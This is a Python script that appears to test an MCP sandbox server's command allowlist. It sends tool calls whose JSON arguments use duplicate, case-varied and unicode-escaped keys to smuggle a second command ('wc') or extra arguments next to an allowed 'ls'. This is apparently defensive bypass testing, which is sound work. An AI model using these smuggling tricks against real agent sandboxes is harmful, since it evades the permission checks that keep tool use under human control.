import subprocess, os, json
A="/tmp/atk33x/argcase-audit.jsonl"
if os.path.exists(A): os.remove(A)
subprocess.run("sed 's#^path = .*audit.jsonl.*#path = \"%s\"#' /tmp/atk33x/pol.toml > /tmp/atk33x/polac.toml" % A, shell=True)
env=dict(os.environ, HOME="/tmp/atk33/home", XDG_STATE_HOME="/tmp/atk33/home/.local/state")
p=subprocess.Popen(["/tmp/atk33/mcpsandbox","serve","--policy","/tmp/atk33x/polac.toml"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=open("/tmp/atk33x/ac.log","wb"),env=env)
def send(b): p.stdin.write(b+b"\n"); p.stdin.flush()
def recv(): return p.stdout.readline()
send(b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}}'); recv()
send(b'{"jsonrpc":"2.0","method":"notifications/initialized"}')
for i,a in enumerate([b'{"command":"ls","Command":"wc","args":["--version"]}', b'{"command":"ls","args":["-d","/"],"ARGS":["--version"]}',
    b'{"command":"ls","comman\\u0064":"wc","args":["--version"]}', b'{"command":"ls","args":["-d"],"args":["--version"]}',
    b'{"command":"ls","args":["-d","."],"\\u0061rgs":["--version"]}', b'{"name":"x","command":"ls","args":["-d","."]}']):
    send(b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"run_allowed_command","arguments":%s}}' % (10+i, a))
    print(i, a.decode(), '->', recv()[:200])
p.stdin.close(); p.wait()
